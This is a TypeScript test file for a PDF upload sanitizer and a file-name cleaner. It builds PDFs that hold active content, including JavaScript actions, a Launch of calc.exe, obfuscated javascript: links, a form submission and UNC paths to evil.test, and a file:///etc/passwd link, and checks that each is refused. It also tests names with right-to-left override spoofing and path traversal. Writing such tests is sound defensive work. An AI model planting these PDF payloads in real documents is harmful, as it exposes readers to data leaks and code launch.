import { PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import { cleanPdf } from "#platform/uploads/clean-pdf.ts";
import { nameForKind } from "#platform/uploads/document-name.ts";

type Parts = Readonly<{ catalog?: string; page?: string; objects?: readonly string[] }>;

/** Written by hand, so that each entry stands where a reader would look for it. What is added begins with object 4. */
const handMade = ({ catalog = "", page = "", objects = [] }: Parts): Buffer => {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${page} >>`,
    ...objects,
  ];
  let text = "%PDF-1.7\n";
  const places = all.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const start = text.length;
  text += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${places.join("")}`;
  text += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
};

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 90 90] /A ${action} >>]`;
const toUri = (uri: string) => link(`<< /S /URI /URI ${uri} >>`);

const active: Record<string, Parts> = {
  "a page that opens a file of a server when it is opened": {
    page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) /D [0 /Fit] >> >>",
  },
  "a page that runs a program when it is left": {
    page: "/AA << /C << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
  },
  "a page whose program stands elsewhere": {
    page: "/AA << /O 4 0 R >>",
    objects: ["<< /S /JavaScript /JS 5 0 R >>", "<< /Length 5 >>\nstream\nhello\nendstream"],
  },
  "a document that runs a program when it is opened": {
    catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
  },
  "a list of programs": { catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>" },
  "a list of files": { catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" },
  "a form of another kind": { catalog: "/AcroForm << /Fields [] /XFA [] >>" },
  "a form that is sent somewhere": {
    page: link("<< /S /SubmitForm /F (https://evil.test) /Fields [] >>"),
  },
  "a form that is filled from a file": { page: link("<< /S /ImportData /F (a.fdf) >>") },
  "a link that starts a program": { page: link("<< /S /Launch /F (calc.exe) >>") },
  "a link to another file": { page: link("<< /S /GoToR /F (a.pdf) /D [0 /Fit] >>") },
  "an action behind an action": {
    page: link("<< /S /URI /URI (https://a.test) /Next << /S /Launch /F (a) >> >>"),
  },
  "a link that is a program": { page: toUri("(javascript:alert\\(1\\))") },
  "a link that is a program, in any case": { page: toUri("( JaVaScRiPt:alert\\(1\\))") },
  "a link that is a program with a line in it": { page: toUri("(java\\nscript:alert\\(1\\))") },
  "a link that is a program, written in numbers": {
    page: toUri(`<${Buffer.from("javascript:alert(1)").toString("hex")}>`),
  },
  "a link that is data": { page: toUri("(data:text/html,<b>)") },
  "a link to a file of the reader": { page: toUri("(file:///etc/passwd)") },
  "a link to a folder of a server": { page: toUri("(\\\\\\\\evil.test\\\\share)") },
  "a base of links that is a program": { catalog: "/URI << /Base (javascript:) >>" },
  "a film": { page: "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]" },
  "a stream whose bytes are elsewhere": {
    page: "/Contents 4 0 R",
    objects: ["<< /Length 0 /F (\\\\\\\\evil.test\\\\a) >>\nstream\n\nendstream"],
  },
};

const harmless: Record<string, Parts> = {
  "a link to the web": { page: toUri("(https://coulisse.example/a?b=c:d)") },
  "a link without a scheme": { page: toUri("(www.coulisse.example)") },
  "a link to write a mail": { page: toUri("(mailto:ada@coulisse.example)") },
  "a link to another page": { page: link("<< /S /GoTo /D [3 0 R /Fit] >>") },
  "the page that is shown first": { catalog: "/OpenAction [3 0 R /Fit]" },
  "what a page does by itself without harm": {
    page: "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>",
    catalog: "/AA << /WC << /S /Named /N /NextPage >> >>",
  },
};

describe("a PDF that does something is refused", () => {
  test.each(Object.entries(active))("%s", async (_, parts) => {
    expect(await cleanPdf(handMade(parts))).toBe("document_active");
  });
});

describe("a PDF that does no harm is kept, without what happens by itself", () => {
  test.each(Object.entries(harmless))("%s", async (_, parts) => {
    const clean = await cleanPdf(handMade(parts));
    expect(clean).toMatchObject({ pageCount: 1 });
    const { bytes } = clean as Exclude<typeof clean, string>;
    const kept = await PDFDocument.load(bytes);
    const objects = kept.context.enumerateIndirectObjects().map(([, object]) => String(object));
    expect(objects.length).toBeGreaterThan(2);
    expect(objects.join("\n")).not.toMatch(/\/(?:AA|OpenAction)\b/);
  });
});

test.each([
  ["relevé\u202Efdp.exe", "relevéfdp.pdf"],
  ["a\u2066b\u2069\u200B\uFEFF\u00AD.pdf", "ab.pdf"],
  ["a\u2028b\u0000\u007F.pdf", "ab.pdf"],
  ["\u202E\u202C.pdf", "document.pdf"],
  ["../../Élodie — 3 €.pdf", "Élodie — 3 €.pdf"],
])("a name keeps the signs that are seen: %j", (name, kept) => {
  expect(nameForKind(name, "pdf")).toBe(kept);
});
